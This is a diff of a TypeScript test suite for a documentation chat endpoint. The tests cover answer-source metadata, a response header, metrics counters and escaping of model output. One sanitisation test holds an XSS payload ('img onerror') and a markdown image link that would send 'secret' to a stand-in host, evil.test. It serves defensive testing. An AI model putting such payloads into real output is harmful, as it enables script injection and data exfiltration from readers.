@@ -128,18 +128,105 @@ test('a model that fails is seen in the metadata of the end and in the metrics, 
   await endpoint.configure({ model: scripted });
   model.play(errorAnswer(500, 'CUDA out of memory in /opt/models/secret.gguf'));
   const failed = await ask();
-  expect(failed.chunks.at(-1)!.messageMetadata).toMatchObject({ answeredBy: 'quotes', modelFailure: 'ModelBroken' });
-  expect(failed.message!.metadata).toMatchObject({ answeredBy: 'quotes', modelFailure: 'ModelBroken' });
+  expect(failed.chunks.at(-1)!.messageMetadata).toMatchObject({ carrel: { answer: 'quotes', reason: 'ModelBroken' } });
+  expect(failed.message!.metadata).toMatchObject({ carrel: { answer: 'quotes', reason: 'ModelBroken' } });
   expect(JSON.stringify(failed.chunks)).not.toMatch(/secret|CUDA|scripted/);
   model.play(textAnswer('Run npm [1].'));
   const answered = await ask();
-  expect(answered.message!.metadata).toMatchObject({ answeredBy: 'model' });
-  expect(answered.message!.metadata).not.toHaveProperty('modelFailure');
+  expect(answered.message!.metadata).toMatchObject({ carrel: { answer: 'model' } });
+  expect(answered.message!.metadata).not.toHaveProperty('carrel.reason');
   model.play({ steps: [chunk({ content: 'Run ' }), chunk({ content: 'npm ' }), 'cut'] });
   expect((await ask()).errors).toHaveLength(1);
   const after = await Promise.all(names.map(value));
   expect(after.map((count, i) => count - before[i]!)).toEqual([3, 1, 1, 1, 1, 1]);
   expect((await series()).join()).not.toMatch(/secret|docs\.test|127\.0\.0\.1/);
+});
+
+describe.each(builds)('$name', (build) => {
+  const asked = () =>
+    exchange(build, { api: v2, headers, body: { fp: 'reader-1' }, messages: [userMessage('How do I install it with npm?')] });
+
+  test.each<[string, object | null, ModelAnswer, object]>([
+    ['a model', scripted, textAnswer('Run npm [1].'), { answer: 'model' }],
+    ['the docs, for want of a model', null, textAnswer(''), { answer: 'quotes', reason: 'NoModel' }],
+    ['the docs, since the model failed', scripted, errorAnswer(500, 'no'), { answer: 'quotes', reason: 'ModelBroken' }],
+  ])('reads that the answer is by %s', async (_, set, play, carrel) => {
+    await endpoint.configure({ model: set });
+    model.play(play);
+    const { errors, message, chunks } = await asked();
+    expect(errors).toEqual([]);
+    expect(chunks.at(-1)!.messageMetadata).toMatchObject({ carrel });
+    expect(message!.metadata).toMatchObject({ carrel });
+  });
+
+  test('gets no HTML and no images of a model, however they are cut', async () => {
+    const pieces = 'Run <img src=x onerror=alert(1)> npm !'
+      .split('')
+      .concat('[tide](http', '://evil.test/', 'p.png?q=secret) `<b>`', ' [1].');
+    model.play(textAnswer(...pieces));
+    const { errors, message } = await asked();
+    expect(errors).toEqual([]);
+    expect(textOf(message)).toBe('Run &lt;img src=x onerror=alert(1)> npm [tide](http://evil.test/p.png?q=secret) `<b>` [1].');
+  });
+});
+
+test('a header that pages can read says that there is no model', async () => {
+  const post = () =>
+    fetch(v2, {
+      method: 'POST',
+      headers: { ...headers, 'content-type': 'application/json', origin: 'https://docs.example.com' },
+      body: JSON.stringify({ fp: 'reader-1', messages: [userMessage('How do I install it with npm?')] }),
+    });
+  await endpoint.configure({ model: null });
+  const quotes = await post();
+  expect(quotes.headers.get('x-carrel-answer')).toBe('quotes');
+  expect(quotes.headers.get('access-control-expose-headers')).toContain('X-Carrel-Answer');
+  await quotes.text();
+  await endpoint.configure({ model: scripted });
+  model.play(textAnswer('Run npm [1].'));
+  const byModel = await post();
+  expect(byModel.headers.get('x-carrel-answer')).toBeNull();
+  await byModel.text();
+});
+
+test('metrics count first words, tokens, answers without sources, refused questions and ratings', async () => {
+  const { registry } = endpoint.server.services.metrics;
+  const value = async (name: string) =>
+    Number(
+      (await registry.metrics())
+        .split('\n')
+        .find((line) => line.startsWith(`${name} `))
+        ?.split(' ')[1] ?? 0,
+    );
+  const names = [
+    'carrel_answer_first_text_seconds_count{by="model"}',
+    'carrel_answer_first_text_seconds_count{by="quotes"}',
+    'carrel_answers_without_sources_total{by="quotes"}',
+    'carrel_questions_refused_total{code="ThreadUnknown"}',
+    'carrel_feedback_total{rating="down"}',
+    'carrel_model_tokens_total{direction="input"}',
+    'carrel_model_tokens_total{direction="output"}',
+  ];
+  const before = await Promise.all(names.map(value));
+  const usage = { choices: [], usage: { prompt_tokens: 1200, completion_tokens: 34, total_tokens: 1234 } };
+  model.play({
+    steps: [chunk({ content: 'Run npm [1].' }), chunk({}, 'stop'), `data: ${JSON.stringify(usage)}\n\n`, 'data: [DONE]\n\n'],
+  });
+  const { message } = await ask();
+  await endpoint.configure({ model: null });
+  await ask('Who painted the ceiling of the Sistine Chapel?');
+  const json = { ...headers, 'content-type': 'application/json' };
+  const unknown = { fp: 'reader-1', threadId: '01JD6Z0000ABCDEFGHJKMNPQRS', messages: [userMessage('And?')] };
+  expect((await fetch(v2, { method: 'POST', headers: json, body: JSON.stringify(unknown) })).status).toBe(404);
+  const feedback = { fp: 'reader-1', threadId: threadOf(message), messageId: message!.id, rating: 'down' };
+  const rated = await fetch(v2.replace(/message$/, 'feedback'), {
+    method: 'POST',
+    headers: json,
+    body: JSON.stringify(feedback),
+  });
+  expect(rated.status).toBe(204);
+  const after = await Promise.all(names.map(value));
+  expect(after.map((count, i) => count - before[i]!)).toEqual([1, 1, 1, 1, 1, 1200, 34]);
 });
 
 test.each<[string, ModelAnswer]>([
